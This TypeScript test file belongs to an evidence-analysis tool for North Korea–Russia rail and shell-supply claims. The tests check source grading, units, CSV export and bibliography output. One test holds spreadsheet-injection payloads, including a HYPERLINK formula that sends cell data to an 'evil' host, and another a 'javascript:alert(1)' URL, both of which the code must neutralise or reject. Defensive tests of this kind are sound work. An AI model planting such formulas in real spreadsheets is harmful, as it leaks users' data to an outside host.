import assert from "node:assert/strict";
import { readFileSync } from "node:fs";
import { join } from "node:path";
import { test } from "node:test";
import { bibliography } from "../../src/adapters/evidence/csl.ts";
import { checkedAgainst, parseEvidence } from "../../src/adapters/evidence/evidence-file.ts";
import { recordJsonSchema } from "../../src/adapters/evidence/record-schema.ts";
import { resolutionsNamed, shippedResolutions, tumangangEvidence } from "../../src/adapters/evidence/shipped.ts";
import { claimsCsv, sourcesCsv, withTable } from "../../src/adapters/evidence/tables.ts";
import { checkedUnit, ucumFactor } from "../../src/adapters/evidence/units.ts";
import { originTrees } from "../../src/core/evidence/independence.ts";
import { remarksOn } from "../../src/core/evidence/own-words.ts";
import { sharedData } from "../shared.ts";
import { published, tumangangRecord } from "./tumangang.ts";

const evidence = tumangangEvidence();
/** The shipped evidence as JSON that a test may spoil. */
const spoiled = (edit: (document: Spoilt) => void) => {
  const document = JSON.parse(JSON.stringify(evidence)) as Spoilt;
  edit(document);
  return () => parseEvidence(document, "e.json");
};
interface Spoilt {
  sources: Record<string, unknown>[];
  claims: { [field: string]: unknown; quantity: Record<string, unknown> | null }[];
  computations: { step: Record<string, unknown> }[];
  matrix: {
    hypotheses: { name: Record<string, string>; predictions: { text: Record<string, string> }[] }[];
    rows: { label: Record<string, string>; cells: Record<string, unknown>[] }[];
  };
  judgement: Record<string, unknown>;
}

test("the figures of the shipped evidence are those of the shared record, to the number", () => {
  const shared: {
    readonly claims: readonly { readonly id: string; readonly quantity?: { readonly value: number } }[];
  } = JSON.parse(readFileSync(sharedData("tumangang/published-counts.json"), "utf8"));
  const values = (id: string) => shared.claims.find((claim) => claim.id === id)?.quantity?.value;
  const ours = (id: string) => evidence.claims.find((claim) => claim.id === id)?.quantity?.value;
  assert.equal(ours("shell-production"), values("shell-production"));
  assert.equal(ours("shell-use"), values("shell-use"));
});

test("ten outlets that repeat the report of 6 October 2023 are one source", () => {
  const tree = originTrees(evidence.sources).find(({ origin }) => origin === "csis-2023-10-06");
  assert.equal(tree?.repeatedBy.length, 10);
  const told = tumangangRecord().findings.filter(({ key }) => key === "sources.repeated");
  assert.deepEqual(
    told.map(({ values }) => values["repeats"]?.value),
    [10, 1, 2],
  );
});

test("every published count of the record comes from a source that is graded", () => {
  for (const { origin } of published) {
    assert.equal(origin.kind, "published");
    if (origin.kind !== "published") continue;
    assert.ok(
      evidence.sources.some(({ url }) => url === origin.source),
      origin.source,
    );
  }
});

test("every resolution says how each of its facts was checked, and all were adopted by fifteen votes", () => {
  const all = shippedResolutions();
  assert.deepEqual(
    all.map(({ number, adoptedOn }) => `${number} ${adoptedOn}`),
    [
      "1718 2006-10-14",
      "1874 2009-06-12",
      "2270 2016-03-02",
      "2321 2016-11-30",
      "2371 2017-08-05",
      "2375 2017-09-11",
      "2397 2017-12-22",
    ],
  );
  for (const { vote, votedFor, checked, provisions } of all) {
    assert.deepEqual(vote, { for: 15, against: 0, abstained: 0 });
    assert.ok(
      votedFor.includes("RU") && ["en", "ar"].every((tag) => (checked[tag]?.length ?? 0) > 40) && provisions.length > 0,
    );
    for (const { paragraph } of provisions) {
      assert.ok(checked["en"]?.includes(`paragraph ${paragraph}`), `how paragraph ${paragraph} was checked`);
      assert.ok(checked["ar"]?.includes(paragraph), `how paragraph ${paragraph} was checked`);
    }
  }
  assert.throws(() => resolutionsNamed(["unscr-9999"]), /evidence-invalid.*unscr-9999/);
});

test("UCUM: a year is 365.25 days, rounds a day do not become cars, slips are refused and not guessed", () => {
  assert.equal(ucumFactor("a", "d"), 365.25);
  assert.equal(ucumFactor("km", "m"), 1000);
  assert.equal(ucumFactor("{round}/d", "{car}"), null);
  assert.equal(checkedUnit("{round}/d", "here"), "{round}/d");
  assert.throws(() => checkedUnit("{round}/year", "here"), /evidence-invalid: here: "\{round\}\/year"/);
  assert.throws(() => checkedUnit("rounds", "here"), /is no UCUM unit/);
});

test("rounds a day plus cars is refused, naming the computation", () => {
  const adding = spoiled(({ claims, computations }) => {
    const [first] = computations;
    for (const { quantity } of claims) delete quantity?.["bound"];
    assert.ok(first);
    first.step = { operation: "sum", terms: ["shell-use", "floor-count"] };
  });
  assert.throws(adding, /evidence-invalid: e\.json: computation yearly-use: .*car.*round/);
});

test("what does not hold together is refused by name: nothing of the file is taken", () => {
  const cases: readonly (readonly [(document: Spoilt) => void, RegExp])[] = [
    [({ sources }) => sources.push({ ...sources[0] }), /csis-2023-10-06 is there twice/],
    [
      ({ sources }) =>
        sources.push({ ...sources[0], id: "copy", url: String(sources[0]?.["url"]).replace("https", "http") }),
      /source copy has the address of csis-2023-10-06: it is that source, or repeats it/,
    ],
    [({ sources }) => Object.assign(sources[0] ?? {}, { derivedFrom: "meduza-2023-10-08" }), /repeats itself/],
    [({ sources }) => Object.assign(sources[0] ?? {}, { publishedOn: "2023-02-31" }), /sources\.0\.publishedOn/],
    [({ sources }) => Object.assign(sources[0] ?? {}, { url: "javascript:alert(1)" }), /sources\.0\.url/],
    [({ sources }) => Object.assign(sources[0] ?? {}, { reliability: "B" }), /sources\.0\.reliability/],
    [({ claims }) => Object.assign(claims[0] ?? {}, { source: "nobody" }), /csis-count comes from nobody/],
    [({ claims }) => Object.assign(claims[0] ?? {}, { contradicts: ["ghost"] }), /contradicts ghost/],
    [({ claims }) => Object.assign(claims[0] ?? {}, { supports: ["aliens"] }), /hypothesis aliens/],
    [
      ({ claims }) => Object.assign(claims.find(({ quantity }) => quantity)?.quantity ?? {}, { unit: "shells" }),
      /no UCUM unit/,
    ],
    [({ matrix }) => matrix.rows[0]?.cells.pop(), /row jump says nothing of hypothesis exercise/],
    [({ judgement }) => Object.assign(judgement, { probability: 1 }), /judgement\.probability/],
    [({ judgement }) => Object.assign(judgement, { hypothesis: "aliens" }), /hypothesis aliens/],
    [
      ({ judgement }) => Object.assign(judgement, { reason: { en: "Because of 73 cars." } }),
      /judgement\.reason\.en: 73/,
    ],
    [(document) => Object.assign(document, { more: 1 }), /more/],
    [
      ({ sources }) => Object.assign(sources[0] ?? {}, { title: { en: "Surge\u000bin rail" } }),
      /sources\.0\.title\.en holds the character U\+000B, which cannot be printed/,
    ],
  ];
  for (const [edit, message] of cases) assert.throws(spoiled(edit), message);
});

test("sources and claims go to CSV and come back as they were", () => {
  const emptied = { ...evidence, sources: evidence.sources.map((s) => ({ ...s, licence: "changed" })) };
  assert.deepEqual(withTable(emptied, sourcesCsv(evidence), "sources.csv"), evidence);
  assert.deepEqual(withTable(evidence, claimsCsv(evidence), "claims.csv"), evidence);
});

test("no cell of a table is a formula to a spreadsheet, and each comes back as it was", () => {
  for (const licence of [
    '=HYPERLINK("http://evil/?"&A1,"x")',
    "-1",
    "+1",
    "@SUM(A1)",
    "'=1",
    "''",
    " padded\n",
    "\t=1",
  ]) {
    const written = { ...evidence, sources: evidence.sources.map((each) => ({ ...each, licence })) };
    const csv = sourcesCsv(written);
    assert.doesNotMatch(csv, /(?:^|,)"?[=+@\t-]/m, licence);
    assert.deepEqual(withTable(evidence, csv, "sources.csv"), written, licence);
  }
});

test("a number below zero is no formula: it goes to CSV as it is", () => {
  const below = (source: object) => Object.assign({}, ...evidence.sources.slice(0, 1), source);
  assert.match(sourcesCsv({ ...evidence, sources: [below({ licence: -1, credibility: -2 })] }), /,-1,.*,-2,/);
});

test("a wrong cell of a table is named by line and column; a table of something else is refused", () => {
  const csv = sourcesCsv(evidence);
  assert.throws(() => withTable(evidence, csv.replace("think-tank", "tank"), "s.csv"), /s\.csv, line 2: kind/);
  assert.throws(() => withTable(evidence, csv.replace('"{""en', '"{"en'), "s.csv"), /s\.csv, line 2/);
  assert.throws(() => withTable(evidence, "a,b\n1,2\n", "s.csv"), /expected a table of sources/);
  assert.throws(() => withTable(evidence, `${csv}"open`, "s.csv"), /evidence-invalid.*not closed/);
});

test("the bibliography is CSL-JSON, with names in the language asked for, dates in parts and the grade as a note", () => {
  const [first] = bibliography(evidence.sources, "ar");
  assert.deepEqual(first, {
    id: "csis-2023-10-06",
    type: "report",
    title: "ارتفاع حاد في حركة القطارات على الحدود بين كوريا الشمالية وروسيا بعد قمة كيم وبوتين",
    publisher: "مشروع «بيوند باراليل»",
    issued: { "date-parts": [[2023, 10, 6]] },
    accessed: { "date-parts": [[2026, 11, 24]] },
    URL: "https://beyondparallel.csis.org/dramatic-increase-in-dprk-russia-border-rail-traffic-after-kim-putin-summit/",
    language: "en",
    note: "Admiralty B2",
  });
});

test("a record says by which version of the package its figures were worked out", () => {
  const path = join(import.meta.dirname, "../../package.json");
  assert.equal(tumangangRecord().madeWith, JSON.parse(readFileSync(path, "utf8")).version);
});

test("the published schema is the one that records are checked by", () => {
  const path = join(import.meta.dirname, "../../docs/schema/report.schema.json");
  assert.deepEqual(
    JSON.parse(readFileSync(path, "utf8")),
    JSON.parse(JSON.stringify(recordJsonSchema())),
    "run `npx node scripts/make-report-schema.ts`",
  );
});

test("a name, a label or a prediction holds no number that no claim states, and a name no likelihood or confidence", () => {
  type Named = { readonly matrix: Spoilt["matrix"] };
  const name =
    (text: Record<string, string>) =>
    ({ matrix }: Named) =>
      Object.assign(matrix.hypotheses[0]?.name ?? {}, text);
  const label =
    (text: Record<string, string>) =>
    ({ matrix }: Named) =>
      Object.assign(matrix.rows[0]?.label ?? {}, text);
  const cases: readonly (readonly [(document: Spoilt) => void, RegExp])[] = [
    [name({ en: "5,000 shells a car sent to Russia" }), /hypotheses\.0\.name\.en: 5,000: no claim states this number/],
    [name({ ar: "إرسال ٥٠٠٠ قذيفة إلى روسيا" }), /hypotheses\.0\.name\.ar: ٥٠٠٠: no claim/],
    [name({ en: "shells almost certainly sent to Russia" }), /name\.en: almost certainly: a name says/],
    [name({ en: "shells sent to Russia, high confidence" }), /name\.en: high confidence: a name says/],
    [name({ ar: "إرسال قذائف مرجّح إلى روسيا" }), /name\.ar: مرجّح: a name says/],
    [label({ en: "The count of 400 cars" }), /rows\.0\.label\.en: 400: no claim/],
    [
      ({ matrix }) => Object.assign(matrix.hypotheses[0]?.predictions[0]?.text ?? {}, { en: "Four hundred cars." }),
      /predictions\.0\.text\.en: Four hundred: no claim/,
    ],
  ];
  for (const [edit, message] of cases) assert.throws(spoiled(edit), message);
  assert.doesNotThrow(spoiled(label({ en: "The count of 73 cars", ar: "عدد ثلاث وسبعين عربة" })));
  assert.doesNotThrow(spoiled(name({ en: "confidence-building measures", ar: "تدابير بناء الثقة" })));
});

test("what misleads in the analyst's own texts and is no fault is remarked on, as by check", () => {
  assert.deepEqual(remarksOn(evidence), []);
  assert.ok(evidence.judgement);
  const reason = { en: "It is highly likely, and we have high confidence, that the summit caused the rise." };
  const told = remarksOn({ ...evidence, judgement: { ...evidence.judgement, reason } });
  assert.deepEqual(
    told.map(({ where, issue }) => [where, issue.code]),
    [["judgement.reason.en", "likelihood-with-confidence"]],
  );
});

test("the languages of a claim state the same numbers, and that which it stands for", () => {
  const words = (id: string, text: string, ar: string) => (document: Spoilt) =>
    Object.assign(document.claims.find((claim) => claim["id"] === id) ?? {}, {
      words: { language: "en", text, verbatim: false, translations: { ar } },
    });
  const cases: readonly (readonly [(document: Spoilt) => void, RegExp])[] = [
    [words("csis-count", "about 730 cars", "نحو 73 عربة"), /claim csis-count: a number \(730, 73\)/],
    [
      words("floor-count", "at least 700 cars", "ما لا يقل عن 700 عربة"),
      /claim floor-count: its words \(en\) say 700 and not 70/,
    ],
    [
      ({ judgement }) =>
        Object.assign(judgement, { reason: { en: "[73](claim:csis-count) cars", ar: "[37](claim:csis-count) عربة" } }),
      /judgement\.reason: a number \(73, 37\)/,
    ],
  ];
  for (const [edit, message] of cases) assert.throws(spoiled(edit), message);
  for (const ar of ["ثلاث وسبعون عربة", "العربات الثلاث والسبعون", "عشرات العربات", "عربات كثيرة"])
    assert.doesNotThrow(spoiled(words("csis-count", "seventy-three cars", ar)), ar);
  const misquoted = JSON.parse(JSON.stringify(evidence)) as Spoilt;
  words("csis-count", "about 730 cars", "نحو 730 عربة")(misquoted);
  const read = parseEvidence(misquoted, "e.json");
  assert.throws(
    () => checkedAgainst(read, published, "e.json"),
    /claim csis-count: its words \(en\) say 730 and not 73/,
  );
  assert.equal(checkedAgainst(evidence, published, "e.json"), evidence);
});
